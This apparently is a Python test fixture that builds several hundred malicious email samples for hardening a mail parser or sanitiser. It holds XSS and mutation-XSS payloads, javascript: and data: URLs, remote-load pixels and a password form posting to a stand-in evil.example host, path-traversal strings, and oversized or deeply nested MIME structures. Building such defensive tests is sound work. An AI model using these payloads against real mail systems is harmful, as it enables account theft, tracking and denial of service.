# ruff: noqa: E501 (a payload stands on one line)
"""Mails that want to do harm: markup that is active somewhere, structures that eat time, bytes that are no text.

Put together by ourselves after the known lists of tricks; each sample is (name, raw bytes).
"""

from __future__ import annotations

import base64
import codecs
from collections.abc import Iterator

HEAD = b"From: Mallory <mallory@example.net>\r\nTo: us@example.com\r\nSubject: Hello\r\nMIME-Version: 1.0\r\n"
JS = "javascript:alert(1)"

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>", "<<script>alert(1);//<</script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script type=text/plain>alert(1)</script >",
    "<script>alert(1)//", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<script><!--\nalert(1)\n--></script>", "<!--><script>alert(1)</script>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<%00script>alert(1)</script>",
    "<\x00script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<script>alert`1`</script>",
    "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;script&gt;</listing>",
]  # fmt: skip
HANDLERS = [
    f"<{tag} {handler}=alert(1){more}>x</{tag}>"
    for tag, handler, more in [
        ("img", "onerror", " src=x"), ("img", "onload", " src=//evil.example/p.gif"), ("body", "onload", ""),
        ("body", "onpageshow", ""), ("div", "onmouseover", ""), ("div", "onclick", ""), ("a", "onfocus", " autofocus tabindex=1"),
        ("input", "onfocus", " autofocus"), ("select", "onfocus", " autofocus"), ("textarea", "onfocus", " autofocus"),
        ("details", "ontoggle", " open"), ("video", "onerror", " src=x"), ("audio", "oncanplay", " src=//evil.example/a.mp3"),
        ("marquee", "onstart", ""), ("object", "onerror", " data=x"), ("iframe", "onload", ""), ("svg", "onload", ""),
        ("math", "onclick", ""), ("table", "onmouseenter", ""), ("td", "onpointerover", ""), ("p", "onanimationstart", ""),
        ("p", "ONCLICK", ""), ("p", "on\nclick", ""), ("p/onclick", "x", ""), ("b", "onauxclick", ""), ("p", "onbeforeinput", " contenteditable"),
        ("style", "onload", ""), ("link", "onload", " rel=stylesheet href=//evil.example/x.css"), ("meta", "onload", ""),
        ("form", "onsubmit", ""), ("button", "onclick", ""), ("p", "onscroll", ""), ("p", "onwheel", ""), ("p", "oncopy", ""),
    ]
]  # fmt: skip
URLS = [
    f"<{tag} {attribute}='{url}'>x</{tag}>"
    for tag, attribute in [("a", "href"), ("area", "href"), ("form", "action"), ("iframe", "src"), ("img", "src"), ("q", "cite")]
    for url in [
        JS, "JaVaScRiPt:alert(1)", " java\nscript:alert(1)", "java&#9;script:alert(1)", "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        "//evil.example/x", "https://evil.example/pixel.gif?who=1", "file:///etc/passwd", "blob:https://x/1", "feed:javascript:alert(1)",
        "cid:1@x", "view-source:javascript:1", "jar:https://x!/y", "mhtml:https://x",
    ]
]  # fmt: skip
MUTATIONS = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p id=\"</p><img src=x onerror=alert(1)>\">", "<table><a href=x><tr><td><a href='javascript:alert(1)'>y", "<b><p title='</b><script>alert(1)</script>'>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<noframes><p id=\"</noframes><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<a href=\"x\"title=`\"><img src=x onerror=alert(1)>`>y</a>",
    "<img alt=\"`><script>alert(1)</script>\" src=x>", "<img alt='\"><svg onload=alert(1)>' src=x>", "<a title='&quot;><script>alert(1)</script>'>", "<blockquote type='\"><script>alert(1)</script>'>x",
    "<td colspan='1\"onclick=\"alert(1)'>x", "<p lang='\" onclick=alert(1) x=\"'>x", "<ol start='1 onclick=alert(1)'><li>x", "<div dir=\"rtl' onmouseover='alert(1)\">x",
]  # fmt: skip
FRAMEWORKS = [
    f"<{tag} {attribute}>x</{tag}>"
    for tag in ("div", "a", "td")
    for attribute in [
        "hx-get=/admin hx-trigger=load", "data-hx-get=/x data-hx-trigger=load", "hx-post=/customers/1/archive/ hx-trigger=revealed", "hx-on:click=alert(1)",
        "hx-on::load=alert(1)", "data-hx-on-click=alert(1)", "hx-vals='js:{a:alert(1)}'", "hx-swap-oob=true id=story", "hx-ext=x hx-boost=true", "hx-include=body hx-delete=/x",
        "data-key=n data-main", "data-action=/x data-composer=y id=composer-text", "x-data='{}' x-init='alert(1)'", "v-on:click=alert(1)", "ng-app ng-csp onload=1", "@click=alert(1)", "class='modal show' role=dialog",
        "id=csrfmiddlewaretoken name=x", "is=evil-element slot=x", "ping=//evil.example/p", "background=//evil.example/b.png", "style='background:url(//evil.example/b.png)'",
        "style='position:fixed;inset:0;z-index:9999'", "style='width:expression(alert(1))'", "style='-moz-binding:url(//evil.example/x)'",
    ]
]  # fmt: skip
LOADS = [
    "<img src=https://evil.example/1.gif>", "<img srcset='https://evil.example/1.gif 2x'>", "<picture><source srcset=//evil.example/1.webp><img src=//evil.example/1.png></picture>", "<img src=cid:logo@x>", "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img lowsrc=//evil.example/1 dynsrc=//evil.example/2>", "<video poster=//evil.example/1.png><source src=//evil.example/v.mp4></video>", "<audio src=//evil.example/a.mp3 autoplay>", "<embed src=//evil.example/x.swf>", "<object data=//evil.example/x></object>",
    "<iframe src=//evil.example/></iframe>", "<iframe srcdoc='<img src=//evil.example/1>'></iframe>", "<frameset><frame src=//evil.example/></frameset>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=dns-prefetch href=//evil.example>", "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/1)}</style>", "<style>@font-face{font-family:x;src:url(//evil.example/f)}p{font-family:x}</style>", "<input type=image src=//evil.example/1>",
    "<body background=//evil.example/1.png>", "<table background=//evil.example/1.png><tr><td>x", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/><a href=x>y</a>", "<svg><image href=//evil.example/1.png /></svg>",
    "<svg><use href=//evil.example/x.svg#a /></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><feImage href=//evil.example/1 /></svg>", "<math href=javascript:alert(1)>x</math>",
    "<track src=//evil.example/x.vtt>", "<bgsound src=//evil.example/x.wav>", "<applet code=x archive=//evil.example/x.jar></applet>", "<portal src=//evil.example>", "<form action=//evil.example method=post><input name=password><button>Sign in</button></form>", "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
]  # fmt: skip
MARKUP = SCRIPTS + HANDLERS + URLS + MUTATIONS + FRAMEWORKS + LOADS
CHARSETS = [
    "", "x", "utf-7", "utf-16", "utf-16le", "utf-32", "UTF-8\"; x=\"", "hex", "rot13", "zip", "base64", "idna", "punycode", "undefined", "unicode_escape", "raw_unicode_escape", "mbcs",
    "../../etc/passwd", "iso-2022-jp", "iso-2022-kr", "gb2312", "big5", "euc-kr", "shift_jis", "koi8-r", "cp037", "x-user-defined", "none", "8bit", "unknown-8bit", "a" * 300, "%s", "\x01",
]  # fmt: skip


def samples() -> Iterator[tuple[str, bytes]]:
    """All of them, some 500."""
    for number, markup in enumerate(MARKUP):
        yield f"markup {number}", html_mail(f"<html><body><p>before</p>{markup}<p>after</p></body></html>")
    for number, markup in enumerate(MARKUP[::7]):
        yield f"alternative {number}", alternative(markup)
        yield f"inside {number}", HEAD + b"Content-Type: message/rfc822\r\n\r\n" + html_mail(markup)
        yield f"header {number}", _in_headers(markup)
    for charset in CHARSETS:
        yield f"charset {charset[:20]!r}", html_mail("<p>é</p><script>alert(1)</script>", charset=charset)
    yield "utf-7", HEAD + b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "utf-16", HEAD + b"Content-Type: text/html\r\n\r\n" + codecs.BOM_UTF16_LE + MARKUP[0].encode("utf-16-le")
    yield "overlong", HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n\xc0\xbcscript\xc0\xbealert(1)"
    yield from _structures()


def html_mail(markup: str, charset: str = "utf-8") -> bytes:
    body = base64.encodebytes(markup.encode("utf-8", "surrogatepass"))
    kind = f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return HEAD + kind.encode("utf-8", "replace") + body


def alternative(markup: str) -> bytes:
    return HEAD + (
        "Content-Type: multipart/alternative; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nplain\r\n"
        f"--B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{markup}\r\n--B--\r\n"
    ).encode("utf-8", "surrogatepass")


def _in_headers(markup: str) -> bytes:
    """Markup where names and subjects stand, in a file's name and in a Message-ID."""
    line = " ".join(markup.split())
    return (
        f'From: "{line}" <{"mallory@example.net"}>\r\nTo: {line}\r\nSubject: {line}\r\nMessage-ID: <{line}>\r\n'
        f"Date: {line}\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nhello\r\n--B\r\n"
        f'Content-Type: application/pdf; name="{line}.pdf"\r\nContent-Disposition: attachment\r\n\r\n%PDF\r\n--B--\r\n'
    ).encode("utf-8", "surrogatepass")


def _structures() -> Iterator[tuple[str, bytes]]:
    part = b"--B\r\nContent-Type: text/plain\r\n\r\npart\r\n"
    file = b"--B\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx\r\n"
    mixed = HEAD + b"Content-Type: multipart/mixed; boundary=B\r\n\r\n"
    yield "1,000 parts", mixed + part * 1000 + b"--B--\r\n"
    yield "1,000 files", mixed + file * 1000 + b"--B--\r\n"
    yield "10,000 parts", mixed + part * 10_000
    yield "1,000 multiparts in each other", HEAD + b"".join(
        b"Content-Type: multipart/mixed; boundary=B%d\r\n\r\n--B%d\r\n" % (n, n) for n in range(1000)
    ) + b"\r\nhello"  # fmt: skip
    yield (
        "1,000 mails in each other",
        HEAD + b"Content-Type: message/rfc822\r\n\r\n" * 1000 + b"Subject: x\r\n\r\nhello",
    )
    yield (
        "boundary in itself",
        HEAD
        + b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
        + part,
    )
    yield "no boundary", HEAD + b"Content-Type: multipart/mixed\r\n\r\n" + part
    yield "wrong boundary", HEAD + b"Content-Type: multipart/mixed; boundary=other\r\n\r\n" + part
    yield "empty boundary", HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n' + part
    yield "100,000 headers", b"X: y\r\n" * 100_000 + HEAD + b"\r\nhello"
    yield "a header of 1 MB", b"Subject: " + b"a" * 1_000_000 + b"\r\n" + HEAD + b"\r\nhello"
    yield "100,000 addresses", b"To: " + b"a@b.example, " * 100_000 + b"\r\n" + HEAD + b"\r\nhello"
    yield "brackets", b'To: "' + b'<(\\"' * 50_000 + b"\r\n" + HEAD + b"\r\nhello"
    yield (
        "encoded words",
        b"Subject: " + b"=?utf-8?b?w6R=?= =?x?q?=ZZ?= " * 10_000 + b"\r\n" + HEAD[:0] + b"From: a@b.example\r\n\r\nx",
    )
    yield "parameters", HEAD + b"Content-Type: text/plain" + b";a*0*=\"'" * 20_000 + b"\r\n\r\nhello"
    yield "NUL bytes", HEAD.replace(b"Hello", b"Hel\x00lo") + b"Content-Type: text/plain\r\n\r\nhel\x00lo\x00\r\n"
    yield "all bytes", bytes(range(256)) * 50
    yield "one line", b"a" * 2_000_000
    yield "only breaks", b"\r\n" * 200_000
    yield "introductions", HEAD + b"\r\n" + b"On 1.1.2020 at 10:00 a@b.example wrote:\n" * 30_000
    yield "quotes", HEAD + b"\r\n" + b"> > > a\n" * 100_000
    yield "colons", HEAD + b"\r\n" + b"From: a\nTo: b\n" * 30_000
    for name, markup in [
        ("divs", "<div>"),
        ("closing", "<b></p>"),
        ("quotes", "<blockquote>a"),
        ("tables", "<table><tr><td>"),
    ]:
        yield f"100,000 {name}", html_mail(markup * 100_000)
    yield "attributes", html_mail("<div " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x")
    yield "entities", html_mail("&#0;&#xD800;&#x1;&amp" * 50_000)
    for encoding in ("base64", "quoted-printable", "x-uuencode", "7bit", "nonsense", "base64; x", ""):
        for body in (
            b"not base64 at all, just words!",
            b"aGVsbG8",
            b"=ZZ=\r\n=",
            b"\xff\xfe\x00",
            b"aGVsbG8=\r\n--\r\nA list's footer is here",
        ):
            yield (
                f"{encoding}: {body[:12]!r}",
                HEAD
                + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: "
                + encoding.encode()
                + b"\r\n\r\n"
                + body,
            )
